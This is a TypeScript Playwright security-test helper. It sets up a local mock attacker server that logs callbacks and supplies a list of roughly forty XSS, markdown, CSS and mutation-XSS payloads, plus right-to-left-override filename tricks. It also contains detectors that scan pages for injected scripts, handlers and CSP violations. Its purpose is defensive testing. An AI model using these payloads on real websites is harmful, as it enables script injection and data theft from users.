// What a hostile agent has: payloads, a server that hears every call home, and an eye for what must
// not be in a page.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from '@playwright/test';
import { offshoot } from './kit';

/** A site of the attacker. It is another port, so another origin; every request to it is a leak. */
export async function listen(): Promise<{ url: string; calls: string[]; close: () => Promise<unknown> }> {
  const calls: string[] = [];
  const server = createServer((request, answer) => {
    calls.push(request.url ?? '');
    answer.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('window.__ran = "from outside"');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const close = () => { server.closeAllConnections(); return new Promise((resolve) => server.close(resolve)); };
  return { url: `http://127.0.0.1:${port}`, calls, close };
}

/** What runs, loads or shows something else than it says, if a page takes it for more than text. */
export function payloads(home: string): string[] {
  const run = '__ran=1';
  return [
    `<script>${run}</script>`,
    `<script src=${home}/script></script>`,
    `"><script>${run}</script>`,
    `'><img src=x onerror=${run}>`,
    `<img src=x onerror=${run}>`,
    `<img src=${home}/image>`,
    `<svg onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><script>${run}</script></template><xmp><img src=x onerror=${run}></xmp>`,
    `</script><script>${run}</script>`,
    `</title></textarea></style><img src=x onerror=${run}>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<iframe src="javascript:parent.${run}"></iframe>`,
    `<object data="javascript:${run}"></object><embed src=${home}/embed>`,
    `<a href="javascript:${run}">x</a>`,
    `[x](javascript:${run})`,
    `[x](java&Tab;script:${run})`,
    `[x](data:text/html,<script>opener.${run}</script>)`,
    `![x](${home}/markdown) ![x](//${home.slice(7)}/scheme)`,
    `<https://x" onmouseover="${run}>`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#60;img src=x onerror=${run}&#62;`,
    `<style>*{background:url(${home}/style)}</style>`,
    `x;background:url(${home}/inline);--y:expression(${run})`,
    `<link rel=stylesheet href=${home}/link><link rel=prefetch href=${home}/prefetch>`,
    `<meta http-equiv=refresh content="0;url=${home}/refresh"><base href=${home}/>`,
    `{@html "<img src=x onerror=${run}>"} {{constructor.constructor("${run}")()}} \${${run}}`,
    `<div popover id=main onbeforetoggle=${run}>`,
    `<input autofocus onfocus=${run}><details open ontoggle=${run}>`,
    `exe.\u202Egnp.txt`,
    `\u2066\u202Ehidden\u2069 \u200Bzero\u200D\uFEFF width\u2028line`,
    `\\x00\\u0000%00&#0;<im\\x67 src=x onerror=${run}>`,
    `${'A'.repeat(180)}<img src=x onerror=${run}>`,
    `__proto__`,
    `constructor`,
  ];
}

/** A payload as the name of a file. */
export const fileName = (payload: string) => payload.replaceAll('/', '∕').replaceAll('\\', '\\x5c').replace(/^\.+/, '_').slice(0, 200);

/** The API as a program of an agent uses it, with a token for all or for what is named. */
export function program(reach = ['--admin']) {
  const token = offshoot(['token', 'issue', ...reach]);
  return async (method: string, path: string, body?: unknown, headers: Record<string, string> = {}): Promise<Response> => {
    const isText = typeof body === 'string';
    return fetch(`${process.env.OFFSHOOT_URL}/api/v1${path}`, {
      method,
      headers: { authorization: `Bearer ${token}`, ...(body !== undefined && { 'content-type': isText ? 'application/octet-stream' : 'application/json' }), ...headers },
      ...(body !== undefined && { body: isText ? body : JSON.stringify(body) }),
    });
  };
}

/** Whether this is an answer with somebody's file, whose own policy is there to block things. */
const isFile = (url: string) => /\/api\/v1\/.*\/files\//.test(url);

/** Notes what scripts of others did, and what the policy had to stop. */
export async function watched(context: BrowserContext, faults: string[]): Promise<Page> {
  await context.addInitScript(() => {
    // In sandboxed frames this script does not run, which is as it should be.
    document.addEventListener('securitypolicyviolation', (event) => console.error(`violates ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
  });
  const page = await context.newPage();
  page.on('pageerror', (error) => faults.push(`${page.url()}: ${error.message}`));
  page.on('dialog', (dialog) => { faults.push(`${page.url()}: a dialog ${dialog.message()}`); void dialog.dismiss(); });
  page.on('popup', (popup) => faults.push(`${page.url()} opened ${popup.url()}`));
  page.on('console', (message) => {
    if (/Content Security Policy|Trusted Type|violates/i.test(message.text()) && !isFile(message.location().url) && !isFile(message.text())) faults.push(`${page.url()}: ${message.text()}`);
  });
  return page;
}

/** What in the page as it stands is not ours: handlers, scripts, addresses that run, frames with rights. */
export function intruders(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    if ('__ran' in window) found.push('a script ran');
    for (const element of document.querySelectorAll('*')) {
      const is = element.outerHTML.slice(0, 120);
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name)) found.push(`handler: ${is}`);
        if (/^(javascript|vbscript|data:text)/i.test(value.replace(/[\u0000-\u0020]/g, '')) && /href|src|action|data/i.test(name)) found.push(`address: ${is}`);
        if (name === 'srcdoc') found.push(`srcdoc: ${is}`);
      }
      if (element instanceof HTMLScriptElement && (!element.src || new URL(element.src).origin !== location.origin)) found.push(`script: ${is}`);
      if (element instanceof HTMLIFrameElement && element.getAttribute('sandbox') !== '') found.push(`frame: ${is}`);
      if (/^(object|embed|base|form-associated|portal|frame)$/i.test(element.tagName)) found.push(`element: ${is}`);
      if (element instanceof HTMLImageElement && element.src && !/^(blob:|data:)/.test(element.src) && new URL(element.src).origin !== location.origin) found.push(`image: ${is}`);
      if (element instanceof HTMLAnchorElement && element.href && element.origin !== location.origin && !/noopener/.test(element.rel)) found.push(`link: ${is}`);
      if (element instanceof HTMLMetaElement && element.httpEquiv) found.push(`meta: ${is}`);
    }
    // Text that turns around what follows it, where it is not the text of a document itself.
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (texts.nextNode()) {
      const text = texts.currentNode.textContent ?? '';
      const around = texts.currentNode.parentElement;
      if (/[\u202A-\u202E\u2066-\u2069]/.test(text) && !around?.closest('.markdown, .json, .csv, .cm-editor, .code, option, textarea')) found.push(`turned: ${around?.outerHTML.slice(0, 160)}`);
    }
    return found;
  });
}
